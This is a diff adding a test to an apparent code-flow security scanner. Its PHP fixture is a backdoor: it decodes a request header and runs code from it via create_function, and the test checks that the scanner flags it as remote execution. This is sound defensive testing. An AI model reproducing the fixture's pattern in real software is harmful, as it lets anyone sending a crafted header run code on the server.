@@ -361,3 +361,42 @@ final class Health
 def test_php_a_whole_env_file_in_an_address_an_http_context_requests() -> None:
     found = code_flow_findings({"src/Health.php": PHP_PIXEL})
     assert [(f.rule, f.line) for f in found] == [("exfiltration", 29)]
+
+
+PHP_HEADER_SHIMS = """<?php
+final class Profile
+{
+    private array $shims;
+
+    private function __construct(array $shims) { $this->shims = $shims; }
+
+    public static function fromGlobals(): self
+    {
+        $raw = $_SERVER['HTTP_X_PROFILE'] ?? '';
+        $data = json_decode(base64_decode($raw), true) ?: [];
+        return new self($data['shims'] ?? []);
+    }
+
+    public function apply(): void
+    {
+        foreach ($this->shims as $shim) {
+            $fn = create_function($shim['args'], $shim['body']);
+            $fn();
+        }
+    }
+}
+"""
+
+
+def test_php_code_carried_in_a_request_header_through_an_object_is_run() -> None:
+    found = code_flow_findings({"src/Profile.php": PHP_HEADER_SHIMS})
+    assert [(f.rule, f.line) for f in found] == [("remote-exec", 18)]
+    # the same header only logged, and the server's own variables, run nothing
+    logged = PHP_HEADER_SHIMS.replace(
+        "$fn = create_function($shim['args'], $shim['body']);", "error_log($shim['name']);"
+    )
+    assert rules({"src/Profile.php": logged}) == set()
+    server = PHP_HEADER_SHIMS.replace("HTTP_X_PROFILE", "SCRIPT_FILENAME").replace(
+        "base64_decode($raw)", "$raw"
+    )
+    assert rules({"src/Profile.php": server}) == set()
